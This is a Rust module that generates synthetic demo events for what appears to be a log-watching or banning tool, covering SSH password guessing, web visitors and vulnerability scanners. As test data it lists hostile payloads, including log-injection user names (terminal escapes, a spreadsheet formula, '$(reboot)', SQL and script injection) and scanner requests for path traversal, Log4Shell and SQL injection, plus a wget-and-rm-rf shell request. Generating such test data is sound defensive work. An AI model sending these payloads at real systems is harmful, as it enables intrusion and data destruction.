//! Those who don't belong there, and the visitors of the web site.

use super::{Storyline, What};
use crate::civil::DAY;
use crate::demo::sshd::{ConnectionEnd, Knock, Passwords};
use crate::demo::web::DemoRequest;
use crate::demo::{END, START};

/// Names from word lists, the commonest first; the server has none of them.
const WORDS: [&str; 28] = [
    "admin",
    "ubuntu",
    "test",
    "oracle",
    "postgres",
    "pi",
    "user",
    "guest",
    "ftpuser",
    "support",
    "hadoop",
    "jenkins",
    "minecraft",
    "tomcat",
    "nagios",
    "debian",
    "ec2-user",
    "steam",
    "dev",
    "student",
    "teamspeak",
    "zabbix",
    "odoo",
    "vagrant",
    "ansible",
    "elastic",
    "kafka",
    "centos",
];

/// User names that are made to harm whoever reads the log. sshd writes control characters in octal.
const HOSTILE: [&str; 8] = [
    r"\033[31mroot\033[0m",
    "x from 192.0.2.8 port 1 ssh2",
    r#"=HYPERLINK("http://198.18.66.6/x","click")"#,
    "<script>alert(1)</script>",
    r"\033]0;owned\007",
    "root from 192.0.2.8 port 22 ssh2: RSA SHA256:AAAA",
    "$(reboot)",
    "'; DROP TABLE bans; --",
];

const FIREFOX: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:134.0) Gecko/20100101 Firefox/134.0";
const PHONE: &str = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.2 Mobile/15E148 Safari/604.1";
const SPIDER: &str = "Mozilla/5.0 (compatible; ExampleBot/2.1; +http://www.example.com/bot.html)";

const fn page(line: &'static str, status: u16, bytes: u32) -> DemoRequest {
    DemoRequest {
        line,
        status,
        bytes,
        agent: FIREFOX,
        probe: false,
    }
}

const fn probe(line: &'static str, status: u16, agent: &'static str) -> DemoRequest {
    DemoRequest {
        line,
        status,
        bytes: 162,
        agent,
        probe: true,
    }
}

const PAGES: [DemoRequest; 8] = [
    page("GET / HTTP/1.1", 200, 4_312),
    page("GET /style.css HTTP/1.1", 200, 1_904),
    page("GET /tides HTTP/1.1", 200, 8_120),
    page("GET /berths?free=1 HTTP/1.1", 200, 6_651),
    page("GET /images/harbor.jpg HTTP/1.1", 304, 0),
    page("GET /contact HTTP/1.1", 200, 2_233),
    page("GET /feed.xml HTTP/1.1", 200, 9_410),
    page("GET /favicon.ico HTTP/1.1", 200, 318),
];

const WORDPRESS: [DemoRequest; 6] = [
    probe("GET /wp-login.php HTTP/1.1", 404, FIREFOX),
    probe("POST /xmlrpc.php HTTP/1.1", 404, FIREFOX),
    probe("GET /wp-includes/wlwmanifest.xml HTTP/1.1", 404, FIREFOX),
    probe(
        "GET /wp-content/plugins/file-manager/readme.txt HTTP/1.1",
        404,
        FIREFOX,
    ),
    probe("GET /blog/wp-login.php HTTP/1.1", 404, FIREFOX),
    probe("GET /wp-admin/setup-config.php HTTP/1.1", 404, FIREFOX),
];

const SECRETS: [DemoRequest; 6] = [
    probe("GET /.env HTTP/1.1", 404, "-"),
    probe("GET /.git/config HTTP/1.1", 403, "-"),
    probe("GET /.aws/credentials HTTP/1.1", 404, "-"),
    probe("GET /config.json.bak HTTP/1.1", 404, "-"),
    probe("GET /api/.env HTTP/1.1", 404, "-"),
    probe("GET /backup.sql HTTP/1.1", 404, "-"),
];

const HOLES: [DemoRequest; 7] = [
    probe(
        "GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1",
        404,
        "libredtail-http",
    ),
    probe(
        "POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1",
        400,
        "libredtail-http",
    ),
    probe(
        "GET /index.php?lang=../../../../../../../../etc/passwd HTTP/1.1",
        404,
        "libredtail-http",
    ),
    probe(
        "GET /..%2f..%2f..%2fetc%2fpasswd HTTP/1.1",
        400,
        "libredtail-http",
    ),
    probe(
        "GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.18.66.9/x.sh HTTP/1.1",
        404,
        "Mozila/5.0",
    ),
    probe(
        "GET /?x=${jndi:ldap://198.18.66.9/a} HTTP/1.1",
        200,
        "${jndi:ldap://198.18.66.9/a}",
    ),
    probe(
        "GET /?id=1%27%20UNION%20SELECT%201,2,3--%20- HTTP/1.1",
        200,
        "sqlmap/1.8#stable (https://sqlmap.org)",
    ),
];

/// Not HTTP: TLS and remote-desktop greetings, as nginx escapes them.
const NOT_HTTP: [DemoRequest; 4] = [
    DemoRequest {
        line: r"\x16\x03\x01\x00\xEE\x01\x00\x00\xEA\x03\x03",
        status: 400,
        bytes: 157,
        agent: "-",
        probe: true,
    },
    DemoRequest {
        line: r"\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr",
        status: 400,
        bytes: 157,
        agent: "-",
        probe: true,
    },
    DemoRequest {
        line: r"\x1B[2J\x1B[31m",
        status: 400,
        bytes: 157,
        agent: "-",
        probe: true,
    },
    DemoRequest {
        line: "CONNECT 198.18.66.9:443 HTTP/1.1",
        status: 400,
        bytes: 157,
        agent: "-",
        probe: true,
    },
];

impl Storyline {
    fn try_passwords(
        &mut self,
        at: i64,
        address: &str,
        user: &str,
        exists: bool,
        tries: u64,
        end: ConnectionEnd,
    ) {
        let passwords = Passwords {
            user: user.to_owned(),
            exists,
            tries,
            end,
        };
        self.add(at, address, What::Passwords(passwords));
    }

    /// A name from a word list (root in `root` of a hundred cases) and whether the server has it.
    fn word(&mut self, root: u64) -> (&'static str, bool) {
        if self.random.percent(root) {
            ("root", true)
        } else {
            (WORDS[self.random.zipf(WORDS.len())], false)
        }
    }

    /// Thirty-seven addresses of one network, each once in many hours.
    pub(super) fn slow_network(&mut self) {
        for number in 0..37 {
            let address = format!("198.51.100.{}", 7 + number * 6);
            let mut at = START + self.random.below(DAY.unsigned_abs() * 2).cast_signed();
            while at < END - DAY / 4 {
                let (user, exists) = self.word(55);
                let end = if self.random.percent(60) {
                    ConnectionEnd::Bye
                } else {
                    ConnectionEnd::Close
                };
                self.try_passwords(at, &address, user, exists, 1, end);
                at += self.random.between(18 * 3_600, 50 * 3_600).cast_signed();
            }
        }
    }

    /// Knocks every five minutes, whether it is banned or not.
    pub(super) fn loud_address(&mut self) {
        let mut at = START + 5_000;
        while at < END - 600 {
            let end = if self.random.percent(30) {
                ConnectionEnd::TooMany
            } else {
                ConnectionEnd::Bye
            };
            let tries = if end == ConnectionEnd::TooMany { 6 } else { 1 };
            self.try_passwords(at, "192.0.2.144", "root", true, tries, end);
            at += self.random.between(40, 160).cast_signed();
        }
    }

    /// Many addresses, each with a burst of names and a rest.
    pub(super) fn word_lists(&mut self) {
        for (third, addresses) in [
            (10, 9),
            (20, 6),
            (30, 6),
            (40, 4),
            (50, 5),
            (60, 2),
            (70, 10),
        ] {
            for number in 0..addresses {
                let address = format!("198.19.{third}.{}", 11 + number * 23);
                for _ in 0..self.random.between(1, 3) {
                    let mut at = self.any_time();
                    for _ in 0..self.random.between(3, 8) {
                        let (user, exists) = self.word(35);
                        let tries = if self.random.percent(12) { 3 } else { 1 };
                        let end = if self.random.percent(50) {
                            ConnectionEnd::Bye
                        } else {
                            ConnectionEnd::Close
                        };
                        self.try_passwords(at, &address, user, exists, tries, end);
                        at += self.random.between(15, 70).cast_signed();
                    }
                }
            }
        }
    }

    /// User names that attack the reader.
    pub(super) fn hostile_names(&mut self) {
        for round in 0..2 {
            for (number, name) in HOSTILE.iter().enumerate() {
                let at = START + (3 + round * 9) * DAY + 11_407 + number as i64 * 1_973;
                self.try_passwords(at, "198.18.66.6", name, false, 1, ConnectionEnd::Close);
            }
        }
    }

    /// Only looks which keys are taken.
    pub(super) fn key_scanners(&mut self) {
        let mut at = START + 2 * DAY;
        for number in 0_usize..150 {
            let keys = if number.is_multiple_of(3) {
                Knock::Keys(WORDS[number % 9], false)
            } else {
                Knock::Keys("root", true)
            };
            self.add(at, "198.18.77.9", What::Knock(keys));
            at += self.random.between(1_800, 14_000).cast_signed();
        }
        for _ in 0..40 {
            let at = self.any_time();
            self.add(
                at,
                "2001:db8:bad::17",
                What::Knock(Knock::Keys("root", true)),
            );
        }
    }

    /// Looks who answers.
    pub(super) fn knockers(&mut self) {
        for number in 0_usize..90 {
            let at = self.any_time();
            let knock = match number % 5 {
                0 => Knock::Http,
                1 => Knock::OldAlgorithms,
                _ => Knock::Silent,
            };
            let address = match number % 4 {
                0 => "198.18.77.20".to_owned(),
                1 => "2001:db8:bad::9".to_owned(),
                _ => format!("198.19.70.{}", 100 + number % 12),
            };
            self.add(at, &address, What::Knock(knock));
        }
    }

    /// People who read the site, and a search engine.
    pub(super) fn web_visitors(&mut self) {
        for _ in 0..260 {
            let mut at = self.day_time();
            let tokyo = self.random.percent(30);
            let address = if tokyo {
                format!(
                    "198.18.{}.{}",
                    self.random.between(144, 159),
                    self.random.between(1, 6) * 40
                )
            } else {
                format!(
                    "198.18.{}.{}",
                    self.random.between(128, 143),
                    self.random.between(1, 4) * 60
                )
            };
            for _ in 0..self.random.between(2, 6) {
                let mut request = *self.random.pick(&PAGES);
                request.agent = if tokyo { PHONE } else { FIREFOX };
                self.add(at, &address, What::Request(request));
                at += self.random.between(1, 40).cast_signed();
            }
        }
        for _ in 0..160 {
            let at = self.any_time();
            let address = format!("198.18.160.{}", self.random.between(20, 24));
            let request = DemoRequest {
                agent: SPIDER,
                ..*self.random.pick(&PAGES)
            };
            self.add(at, &address, What::Request(request));
        }
        self.add(
            START + 9 * DAY + 40_000,
            "198.18.5.77",
            What::BasicAuth("bob", true),
        );
    }

    /// Those who look for holes.
    pub(super) fn web_scanners(&mut self) {
        let series: [(&[DemoRequest], &str, u64); 4] = [
            (&WORDPRESS, "198.19.70", 14),
            (&SECRETS, "198.18.66", 9),
            (&HOLES, "203.0.113", 8),
            (&NOT_HTTP, "198.18.77", 9),
        ];
        for (requests, network, times) in series {
            for number in 0..times {
                let address = format!("{network}.{}", 201 + number % 5);
                let mut at = self.any_time();
                for request in requests {
                    self.add(at, &address, What::Request(*request));
                    at += self.random.between(1, 9).cast_signed();
                }
            }
        }
        for number in 0..12 {
            let at = self.any_time();
            let user = ["admin", "root", "manager"][number % 3];
            self.add(at, "2001:db8:bad::80", What::BasicAuth(user, false));
        }
    }
}
